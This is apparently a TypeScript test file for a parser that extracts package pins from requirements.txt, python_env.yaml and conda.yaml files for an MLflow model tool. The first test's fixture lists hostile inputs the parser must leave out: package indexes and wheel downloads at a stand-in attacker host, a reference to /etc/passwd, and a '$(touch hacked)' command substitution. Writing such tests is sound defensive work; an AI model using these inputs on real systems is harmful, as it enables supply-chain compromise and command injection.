import assert from "node:assert/strict";
import { test } from "node:test";
import { namesMlflow, packagesOf, unpinned } from "../../../src/replay/recipe/packages.ts";
import type { EnvironmentFile } from "../../../src/source/requirements.ts";

const requirements = (text: string, label = "model"): EnvironmentFile => ({ label, name: "requirements.txt", text });

test("requirements are taken as they are; options, addresses and files are left out", async () => {
  const text = `# comment
mlflow==3.17.2  # pinned
scikit-learn[alldeps] == 1.9.1 ; python_version >= "3.9" and sys_platform != 'win32'
numpy>=2,<3
torch==2.1.0+cu118
pandas==2.0.* \\
  --hash=sha256:0123
--index-url https://evil.example/simple
--extra-index-url=https://evil.example
-e git+https://evil.example/x#egg=x
-r /etc/passwd
thing @ https://evil.example/thing.whl
https://evil.example/other.whl
./local.whl
-c constraints.txt
$(touch hacked)
`;
  assert.deepEqual(await packagesOf([requirements(text)]), {
    lines: [
      "mlflow==3.17.2",
      `scikit-learn[alldeps] == 1.9.1 ; python_version >= "3.9" and sys_platform != 'win32'`,
      "numpy>=2,<3",
      "torch==2.1.0+cu118",
      "pandas==2.0.*",
    ],
    leftOut: [
      "--index-url https://evil.example/simple",
      "--extra-index-url=https://evil.example",
      "-e git+https://evil.example/x#egg=x",
      "-r /etc/passwd",
      "thing @ https://evil.example/thing.whl",
      "https://evil.example/other.whl",
      "./local.whl",
      "-c constraints.txt",
      "$(touch hacked)",
    ],
    files: ["model/requirements.txt"],
  });
});

test("the first model's files count together: packages of one, Python of another", async () => {
  const pythonEnv = "python: 3.11.7\nbuild_dependencies:\n- pip==24.0\ndependencies:\n- -r requirements.txt\n";
  const packages = await packagesOf([
    requirements("mlflow==3.17.2\n"),
    { label: "model", name: "python_env.yaml", text: pythonEnv },
    { label: "", name: "requirements.txt", text: "other==1\n" },
  ]);
  assert.deepEqual(packages, {
    lines: ["mlflow==3.17.2"],
    leftOut: [],
    python: "3.11.7",
    files: ["model/requirements.txt", "model/python_env.yaml"],
  });
});

test("python_env.yaml and conda.yaml stand for themselves", async () => {
  const pythonEnv = "python: 3.9\ndependencies:\n- six==1.16.0\n";
  assert.deepEqual(await packagesOf([{ label: "", name: "python_env.yaml", text: pythonEnv }]), {
    lines: ["six==1.16.0"],
    leftOut: [],
    python: "3.9",
    files: ["python_env.yaml"],
  });
  const conda = `channels: [conda-forge]
dependencies:
- python=3.10.4
- conda-forge::numpy=2.1.0=py310_0
- cudatoolkit >=11
- pip<=23
- pip:
  - mlflow==2.22.0
  - ./x.whl
`;
  assert.deepEqual(await packagesOf([{ label: "m", name: "conda.yaml", text: conda }]), {
    lines: ["numpy==2.1.0", "mlflow==2.22.0"],
    leftOut: ["cudatoolkit >=11", "pip<=23", "./x.whl"],
    python: "3.10.4",
    files: ["m/conda.yaml"],
  });
});

test("no files are no environment; a file that is no list of packages is an empty one", async () => {
  assert.equal(await packagesOf([]), undefined);
  for (const text of ["", "[]", "a: b", "dependencies: 3", "dependencies: [3, {pip: x}]", "null"]) {
    const packages = await packagesOf([{ label: "", name: "conda.yaml", text }]);
    assert.deepEqual([packages?.lines, packages?.leftOut], [[], []], text);
  }
});

test("what is not exact, and whether mlflow is among it", () => {
  const lines = ["a==1.0", "b", "c>=1", "d==1.*", "e===2 ; python_version > '3'"];
  assert.deepEqual(unpinned({ lines }), ["b", "c>=1", "d==1.*"]);
  for (const line of ["mlflow", "mlflow==3", "MLflow-skinny>=2", "mlflow[extras]==3"])
    assert.ok(namesMlflow({ lines: [line] }), line);
  for (const line of ["mlflow-export==1", "mlflowx", "not-mlflow"]) assert.ok(!namesMlflow({ lines: [line] }), line);
});
